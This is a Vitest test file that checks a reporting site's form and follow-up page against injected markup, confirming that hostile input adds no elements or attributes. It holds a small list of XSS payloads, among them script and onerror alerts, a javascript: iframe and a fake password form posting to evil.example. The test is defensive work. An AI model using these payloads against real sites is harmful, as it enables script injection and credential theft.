import { existsSync, readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { loadConfig } from '#config';
import { draftOf } from '../read-report-form.js';
import { renderFollowUpPage } from './follow-up-page.js';
import { pageFrame } from './page-frame.js';
import { renderReportForm } from './report-form.js';

const samples = new URL('../../../../../shared/data/hostile/dompurify_expect.json', import.meta.url);

/** Our own few, so that a clone without the samples is tried too. */
const own = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '</textarea><iframe src="javascript:alert(1)"></iframe>',
  "' autofocus onfocus=alert(1) x='",
  '</title><form action="https://evil.example"><input name=password></form>',
];

function payloads(): readonly string[] {
  if (!existsSync(samples)) return own;
  const { cases } = JSON.parse(readFileSync(samples, 'utf8')) as {
    readonly cases: readonly { readonly payload: string }[];
  };
  return [...own, ...cases.map(({ payload }) => payload)];
}

/** The elements of a page with the names of their attributes, and every attribute that a browser follows or runs. */
function skeletonOf(html: string): readonly string[] {
  return Array.from(
    html.matchAll(/<(\/?[a-zA-Z][^\s/>]*)((?:[^"'>]|"[^"]*"|'[^']*')*)>/gu),
    ([, name = '', rest = '']) => {
      const attributes = Array.from(rest.matchAll(/([^\s=/]+)(?:="([^"]*)")?/gu), ([, attribute = '', value = '']) =>
        /^(?:href|src|action|formaction|style|on.*)$/iu.test(attribute) ? `${attribute}=${value}` : attribute,
      );
      return `${name} ${attributes.join(' ')}`;
    },
  );
}

const bounds = { fileMegabytes: 10, filesPerReport: 5, reportMegabytes: 20 };

describe('hostile text on the public pages', () => {
  const frame = pageFrame(loadConfig(), 'fr');

  it.each([
    [
      'form',
      (text: string) =>
        renderReportForm(frame, {
          draft: { ...draftOf(() => text), account: '', language: 'fr' } as ReturnType<typeof draftOf>,
          nonce: text,
          faults: [],
          notStored: true,
          kept: [],
          leftOut: [],
          bounds,
          closedSince: null,
        }),
    ],
    [
      'follow-up page',
      (text: string) =>
        renderFollowUpPage(frame, {
          followUp: {
            reference: 'K7Q4-MPX',
            receivedAt: '2027-10-01T12:00:00.000Z',
            status: 'received',
            steps: [text],
            conversation: [{ from: 'you', at: '2027-10-01T12:00:00.000Z', text }],
          },
          steps: [{ key: 'a-step', text, done: false }],
          status: text,
          proof: text,
          callerPhrase: 'maple, kettle, drum',
          nonce: text,
          told: null,
          draft: text,
          fault: text,
          kept: [],
          leftOut: [],
          bounds,
          channelWish: {
            state: 'open',
            address: text,
            newProvenAt: null,
            oldProvenAt: null,
            hasOld: true,
            isOver: false,
          },
          channelFault: { text, typed: text },
        }),
    ],
  ])('adds no element, attribute, address or script to the %s', (_, render) => {
    const plain = skeletonOf(render('plain words'));
    expect(plain.length).toBeGreaterThan(20);
    for (const payload of payloads()) {
      expect({ payload, skeleton: skeletonOf(render(payload)) }).toEqual({ payload, skeleton: plain });
    }
  });
});
